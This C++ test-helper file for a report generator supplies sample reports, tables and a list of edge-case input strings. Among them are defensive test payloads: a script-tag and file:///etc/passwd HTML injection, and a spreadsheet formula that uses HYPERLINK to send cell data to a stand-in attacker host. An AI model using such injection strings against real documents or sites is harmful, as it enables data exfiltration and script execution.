// SPDX-FileCopyrightText: 2026 The Tallerista authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "tests/report/samplereport.h"

using namespace Qt::StringLiterals;

namespace Tallerista::Samples {

using namespace Paper;

QStringList hostileTexts()
{
    return {
        u"<img src=\"file:///etc/passwd\"><b>x</b> <script>alert(1)</script>"_s,
        u"=1+1"_s,
        u"=HYPERLINK(\"http://malo.example/?\"&A1,\"clic\")"_s,
        u"100 % de acuerdo: %1 %2 %n &amp; \\n"_s,
        u"https://www.ejemplo.gob.example/documentos/informes/agua/calidad/"
        u"resultados-preliminares_v12_final_definitivo.xlsx?download=1&sector=norte#anexo-3"_s,
        u"x\u0302 q\u0303 a\u0323\u0302"_s,
        u"Más árboles 🌳🌧️ y menos cemento 👍🏽; familia 👩‍👩‍👧‍👦, bandera 🇸🇻"_s,
        u"الماء حق للجميع y מים לכולם"_s,
        u"水是生命"_s,
    };
}

Paragraph linesAbove(int count)
{
    return {QStringList(count, u"relleno"_s).join(u'\n')};
}

QString manyWords(int count)
{
    QStringList words;
    for (int i = 0; i < count; ++i)
        words.append(u"palabra%1"_s.arg(i));
    return words.join(u' ');
}

namespace {

class Collect
{
public:
    explicit Collect(QStringList &texts)
        : m_texts(texts)
    {}

    void operator()(const Heading &heading) const { add(heading.text); }
    void operator()(const Paragraph &paragraph) const { add(paragraph.text); }
    void operator()(const BulletList &list) const { add(list.items); }
    void operator()(const Table &table) const
    {
        add(table.caption);
        add(table.note);
        add(SmallTable{table.columns, table.rows});
    }
    void operator()(const Form &form) const
    {
        add(form.kicker);
        add(form.title);
        add(form.missing);
        for (const FormSection &section : form.sections) {
            add(section.title);
            for (const FormRow &row : section.rows) {
                add(row.label);
                std::visit([this](const auto &value) { add(value); }, row.value);
            }
        }
    }
    void operator()(const Bars &bars) const
    {
        add(bars.caption);
        add(bars.cutText);
        for (const Bar &bar : bars.bars)
            add({bar.code, bar.label, bar.valueText});
    }
    void operator()(const PageBreak &) const {}

private:
    void add(const PlainText &text) const
    {
        if (!text.isEmpty())
            m_texts.append(text.string());
    }
    void add(const QList<PlainText> &texts) const
    {
        for (const PlainText &text : texts)
            add(text);
    }
    void add(const SmallTable &table) const
    {
        for (const Column &column : table.columns)
            add(column.title);
        for (const Row &row : table.rows)
            add(row.cells);
    }

    QStringList &m_texts;
};

} // namespace

QStringList textsOf(const Report &report)
{
    QStringList texts{report.title.string(),
                      report.subtitle.string(),
                      report.organisation.string(),
                      report.edition.string()};
    for (const Fact &fact : report.facts)
        texts << fact.label.string() << fact.value.string();
    for (const Block &block : report.blocks)
        std::visit(Collect(texts), block);
    return texts;
}

Report reportOf(const QList<Block> &blocks)
{
    Report report;
    report.title = u"Título"_s;
    report.blocks = blocks;
    return report;
}

Table tableOf(int rows, const QString &cell)
{
    Table table{
        .caption = u"Un cuadro"_s,
        .columns = {{.title = u"No."_s, .kind = Column::Kind::Code}, {.title = u"Lo dicho"_s}}};
    for (int i = 1; i <= rows; ++i)
        table.rows.append({{QString::number(i), cell.contains(u"%1"_s) ? cell.arg(i) : cell}});
    return table;
}

} // namespace Tallerista::Samples
